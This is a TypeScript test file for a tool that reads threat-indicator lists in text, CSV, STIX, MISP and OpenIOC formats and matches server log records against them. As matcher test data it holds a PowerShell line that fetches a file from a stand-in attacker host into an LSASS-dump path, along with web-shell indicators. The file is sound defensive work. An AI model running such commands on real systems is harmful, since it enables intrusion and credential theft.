import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Event } from "../../../model/index.ts";
import { createGivenMatcher, readGivenList, type GivenList, type GivenMatcher } from "./index.ts";
import { parseStixPattern } from "./stix-pattern.ts";

const read = (text: string): GivenList => readGivenList(text, "list");
const told = (list: GivenList): readonly string[] =>
  list.indicators.map(
    ({ kind, value, folder }) => `${kind} ${value}${folder === null ? "" : ` in ${folder}`}`,
  );
const messages = (list: GivenList): readonly string[] =>
  list.problems.map(({ at, message }) => `${String(at.line)} ${message}`);
const indicator = (pattern: string, more: object = {}): object => ({
  ...{ type: "indicator", pattern_type: "stix", valid_from: "2021-03-01T00:00:00Z", pattern, ...more },
});
const bundle = (...objects: readonly object[]): string => JSON.stringify({ type: "bundle", objects });
const SHA = "AB".repeat(32);

describe("a plain list", () => {
  it("tells by its form what each line is, also where somebody made it harmless", () => {
    const list = read(
      [
        ...[
          "# list of a CERT",
          "203.0.113[.]7  seen scanning",
          "198.51.100.0/24",
          "hxxp://c2[.]evil.example/load",
          SHA,
        ],
        ...[
          "2001:DB8::1",
          "*.evil.example",
          "C:\\Windows\\Temp\\lsass*.dmp",
          "shell.aspx",
          "/owa/auth/x.aspx?a=1",
        ],
        ...["https://mail.victim.example/aspnet_client/y.aspx", "antSword/v2.1"],
      ].join("\r\n"),
    );
    expect(told(list)).toEqual([
      ...[
        "address 203.0.113.7",
        "network 198.51.100.0/24",
        "domain c2.evil.example",
        `hash ${SHA.toLowerCase()}`,
      ],
      ...[
        "address 2001:db8::1",
        "domain evil.example",
        "file lsass*.dmp in windows\\temp",
        "file shell.aspx",
      ],
      ...["page /owa/auth/x.aspx", "page /aspnet_client/y.aspx", "user-agent antSword/v2.1"],
    ]);
    expect(list.indicators[0]?.note).toBe("seen scanning");
    expect(list.problems).toEqual([]);
  });

  it("names every line that cannot be used, and counts kinds that nothing shows", () => {
    const list = read(
      "10.1.2.3\nwhat is this\n203.0.113.0/8\n203.0.113.9\nd41d8cd98f00b204e9800998ecf8427e\n",
    );
    expect(told(list)).toEqual(["address 203.0.113.9"]);
    expect(messages(list)).toEqual([
      "1 10.1.2.3 is an inner address, which machines of every network have",
      expect.stringMatching(/^2 what kind of indicator "what is this"/u),
      "3 203.0.113.0/8 is so wide that it says nothing about an intruder",
      "1 not looked for: 1 md5",
    ]);
    expect(list.problems.every((problem) => problem.advice !== undefined)).toBe(true);
  });

  it("is an error when nothing of it can be looked for", () => {
    expect(read("# nothing\n").problems.map((problem) => problem.severity)).toEqual(["error"]);
  });
});

describe("a table", () => {
  it("is read by the names of its columns, with dates, confidence and notes", () => {
    const list = read(
      'Type;Indicator;First Seen;Last Seen;Confidence;Comment\nip-src;203.0.113.7;2021-03-01;2021-03-20;90;"a; b"\nemail;x@y.example;;;;\nfilename;x.aspx;soon;;low;\n',
    );
    expect(list.format).toBe("csv");
    expect(told(list)).toEqual(["address 203.0.113.7", "file x.aspx"]);
    expect(list.indicators[0]).toMatchObject({
      ...{
        fromMs: Date.parse("2021-03-01"),
        toMs: Date.parse("2021-03-20"),
        confidence: "high",
        note: "a; b",
      },
    });
    expect(messages(list)).toEqual([
      '4 the date "soon" is not understood and was left out',
      "1 not looked for: 1 email",
    ]);
  });

  it("is read from columns that are called after their values", () => {
    expect(told(read("sha256,filename,ip\n,x.aspx,203.0.113.7\n" + `${SHA},,\n`))).toEqual([
      ...["file x.aspx", "address 203.0.113.7", `hash ${SHA.toLowerCase()}`],
    ]);
  });
});

describe("STIX", () => {
  it("gives the comparisons of its patterns, with validity and confidence", () => {
    const list = read(
      bundle(
        indicator("[ipv4-addr:value = '203.0.113.7' OR ipv4-addr:value ISSUBSET '198.51.100.0/24']", {
          ...{ confidence: 80, valid_until: "2021-04-01T00:00:00Z" },
        }),
        indicator("[file:name = 'x''y.aspx']"),
        indicator(
          "[file:name = 'a.aspx' AND file:parent_directory_ref.path = '%SystemDrive%\\\\inetpub\\\\wwwroot']",
        ),
        indicator(`[file:hashes.'SHA-256' = '${SHA}' AND file:name = 'b.exe'] OR [file:hashes.MD5 = '00']`),
        indicator(
          "[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = 'tool\\'s/1.0']",
        ),
        indicator("[domain-name:value IN ('evil.example', 'c2.example')] WITHIN 5 SECONDS"),
        indicator("title: x", { pattern_type: "sigma" }),
        indicator("[ipv4-addr:value = '203.0.113.8']", { revoked: true }),
        { type: "ipv4-addr", value: "203.0.113.9" },
      ),
    );
    expect(told(list)).toEqual([
      ...["address 203.0.113.7", "network 198.51.100.0/24", "file a.aspx in inetpub\\wwwroot"],
      ...[`hash ${SHA.toLowerCase()}`, "user-agent tool's/1.0", "domain evil.example", "domain c2.example"],
    ]);
    expect(list.indicators[0]).toMatchObject({
      ...{ confidence: "high", fromMs: Date.parse("2021-03-01"), toMs: Date.parse("2021-04-01") },
    });
    // A qualifier was read over, so the value alone says less.
    expect(list.indicators.at(-1)?.confidence).toBe("low");
    expect([...list.unused.keys()]).toEqual(["md5", "revoked indicator", "sigma pattern"]);
    expect(messages(list)[0]).toBe("1 objects[1].pattern: the pattern is not understood");
  });

  it("says that a pattern is broken, whatever stands in it", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^\[[a-z:'= ()ANDOR,]{0,60}\]?$/u)), (text) => {
        const parsed = parseStixPattern(text);
        expect("fault" in parsed || parsed.alternatives.length > 0).toBe(true);
      }),
    );
  });

  it("does not follow a pattern into endless depth or alternatives", () => {
    expect(parseStixPattern(`[${"(".repeat(5_000)}`)).toHaveProperty("fault");
    const wide = Array.from({ length: 12 }, (_, i) => `(a:b = '${String(i)}' OR a:b = 'x')`).join(" AND ");
    expect(parseStixPattern(`[${wide}]`)).toHaveProperty("fault");
  });
});

describe("MISP", () => {
  it("gives attributes and objects of an event, of an answer and of a feed", () => {
    const event = {
      Event: {
        ...{ info: "Campaign", date: "2021-03-02" },
        Attribute: [
          { type: "ip-dst|port", value: "203.0.113.7|443", to_ids: true, comment: "tor exit node" },
          { type: "filename|sha256", value: `x.aspx|${SHA}`, to_ids: true },
          { type: "domain", value: "evil.example", to_ids: false },
          { type: "email-src", value: "a@b.example", to_ids: true },
          { type: "ip-src", value: "203.0.113.8", deleted: true },
          { type: "ip-src" },
        ],
        Object: [
          {
            name: "file",
            Attribute: [
              {
                type: "sha256",
                value: "cd".repeat(32),
                Tag: [{ name: 'misp:confidence-level="usually-confident"' }],
              },
              { type: "filename", value: "only-its-name.dll" },
            ],
          },
        ],
      },
    };
    for (const root of [event, [event], { response: [event] }]) {
      const list = read(JSON.stringify(root));
      expect(list.format).toBe("misp");
      expect(told(list)).toEqual([
        ...[
          "address 203.0.113.7",
          `hash ${SHA.toLowerCase()}`,
          "domain evil.example",
          `hash ${"cd".repeat(32)}`,
        ],
      ]);
      expect(list.indicators.map((one) => one.confidence)).toEqual(["medium", "medium", "low", "high"]);
      expect(list.indicators[0]?.weak).toContain("tor");
      expect([...list.unused]).toEqual([["email-src", 1]]);
      expect(messages(list)[0]).toContain("Attribute[5].value");
    }
  });

  it("says that the index of a feed holds no indicators", () => {
    const uuid = "5a5e0a3c-0000-4000-8000-000000000000";
    expect(messages(read(JSON.stringify({ [uuid]: { info: "x", date: "2021-03-02" } })))[0]).toContain(
      "index of a MISP feed",
    );
  });
});

describe("OpenIOC", () => {
  it("gives its items, each by itself and with low confidence", () => {
    const item = (search: string, content: string): string =>
      `<IndicatorItem condition="is"><Context document="x" search="${search}"/><Content type="string">${content}</Content></IndicatorItem>`;
    const list = read(
      `<?xml version="1.0"?><ioc xmlns="http://schemas.mandiant.com/2010/ioc">${item("FileItem/FileName", "x.aspx")}${item("PortItem/remoteIP", "203.0.113.7")}${item("RegistryItem/Path", "HKLM")}</ioc>`,
    );
    expect(told(list)).toEqual(["file x.aspx", "address 203.0.113.7"]);
    expect(list.indicators[0]?.confidence).toBe("low");
    expect([...list.unused.keys()]).toEqual(["registryitem/path"]);
  });
});

describe("any file", () => {
  it("is read or refused with a place and an advice, never silently", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.json(),
          fc.string().map((text) => `<ioc>${text}`),
        ),
        (text) => {
          const list = read(text);
          expect(list.indicators.length + list.problems.length).toBeGreaterThan(0);
          for (const problem of list.problems) expect(problem.advice).toMatch(/\S/u);
        },
      ),
    );
  });

  it("names the line where JSON breaks off, and what else is no list", () => {
    expect(messages(read('{\n "type": "bundle",\n "objects": [\n'))[0]).toMatch(/^4 the file is no JSON/u);
    expect(messages(read("<html></html>"))[0]).toContain("no OpenIOC");
    expect(messages(read('{"a": 1}'))[0]).toContain("neither STIX 2.1 nor MISP");
  });

  it("survives being cut anywhere", () => {
    const whole = bundle(indicator("[ipv4-addr:value = '203.0.113.7']"));
    for (let end = 1; end < whole.length; end++)
      expect(read(whole.slice(0, end)).problems.length).toBeGreaterThan(0);
  });
});

describe("given indicators", () => {
  const day = (text: string): number => Date.parse(`${text}T12:00:00Z`);
  const request = (ecs: Event["ecs"], fields: Event["fields"] = {}, timeMs = day("2021-03-03")): Event => ({
    ...{ artifact: "iis-w3c", timeMs, server: null, fields, ecs, raw: null, repairs: [] },
    at: { item: 0, offsetBytes: 0, lengthBytes: 0, record: 1 },
  });
  const kindsOf = (matcher: GivenMatcher, event: Event): readonly string[] =>
    matcher.match(event).map(({ kind, confidence }) => `${kind} ${confidence}`);
  const matcher = createGivenMatcher(
    read(
      [
        ...[
          "type,value,first_seen,last_seen,confidence,comment",
          "ip,203.0.113.7,2021-03-01,2021-03-20,high,",
          "ip,104.16.1.1,,,high,",
        ],
        ...[
          "cidr,198.51.100.0/24,,,,",
          "domain,evil.example,,,high,",
          "uri,/owa/auth/x.aspx,,,high,",
          "user-agent,Mozilla/5.0 (X11; odd),,,,",
        ],
        ...[
          "filename,%ExchangeInstallPath%FrontEnd\\HttpProxy\\owa\\auth\\y.aspx,,,high,",
          `sha256,${SHA},,,high,`,
          "filename,lsass*.dmp,,,,",
        ],
      ].join("\n"),
    ).indicators,
  );

  it("find the address of a request, at most with medium confidence, and doubt it outside of its days", () => {
    expect(kindsOf(matcher, request({ "source.ip": "203.0.113.7" }))).toEqual(["given-address medium"]);
    expect(kindsOf(matcher, request({ "source.ip": "203.0.113.7" }, {}, day("2022-03-03")))).toEqual([
      "given-address low",
    ]);
    expect(kindsOf(matcher, request({ "source.ip": "198.51.100.77" }))).toEqual(["given-address low"]);
    expect(kindsOf(matcher, request({ "source.ip": "198.51.101.77" }))).toEqual([]);
  });

  it("call an address of a service that many share weak evidence", () => {
    const [rule] = matcher.match(request({ "source.ip": "104.16.1.1" }));
    expect(rule?.confidence).toBe("low");
    expect(matcher.meaningOf(rule?.id ?? "")?.indicator.weak).toContain("Cloudflare");
  });

  it("find pages, programs, and names in commands and queries", () => {
    expect(
      kindsOf(matcher, request({ "url.path": "/OWA/auth/X.aspx", "http.response.status_code": 200 })),
    ).toEqual(["given-page high"]);
    expect(
      kindsOf(matcher, request({ "url.path": "/owa/auth/x.aspx", "http.response.status_code": 404 })),
    ).toEqual(["given-page low"]);
    expect(kindsOf(matcher, request({ "user_agent.original": "Mozilla/5.0+(X11;+odd)" }))).toEqual([
      "given-user-agent low",
    ]);
    const command = "cmd /c powershell -c iwr http://p.evil.example/a -out C:\\Windows\\Temp\\lsass_1.dmp";
    expect(kindsOf(matcher, request({}, { CommandLine: command }))).toEqual([
      "given-contact high",
      "given-file medium",
    ]);
    expect(kindsOf(matcher, request({}, { CommandLine: "notevil.example" }))).toEqual([]);
    expect(kindsOf(matcher, request({}, { "cs-uri-stem": "/owa/auth/y.aspx" }))).toEqual(["given-file high"]);
    expect(kindsOf(matcher, request({}, { "cs-uri-stem": "/other/y.aspx" }))).toEqual([]);
  });

  it("find files by hash and by path on any drive", () => {
    expect(
      matcher.matchFile("D:\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\Y.aspx", "00".repeat(32)),
    ).toHaveLength(1);
    expect(matcher.matchFile("C:\\a.exe", SHA)).toHaveLength(1);
    expect(matcher.matchFile("C:\\y.aspx", "00".repeat(32))).toEqual([]);
  });

  it("name a text that stands in every line which they can match, so that the fast road misses none", () => {
    expect(matcher.literals).toEqual(
      expect.arrayContaining(["203.0.113.7", "198.51.100.", "evil.example", "x.aspx", "y.aspx"]),
    );
    for (const literal of matcher.literals) expect(literal.length).toBeGreaterThanOrEqual(4);
  });

  it("answer for any record", () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (path, text) => {
        expect(
          Array.isArray(
            matcher.match(
              request({ "url.path": path, "source.ip": text, "user_agent.original": text }, { a: text }),
            ),
          ),
        ).toBe(true);
      }),
    );
  });
});
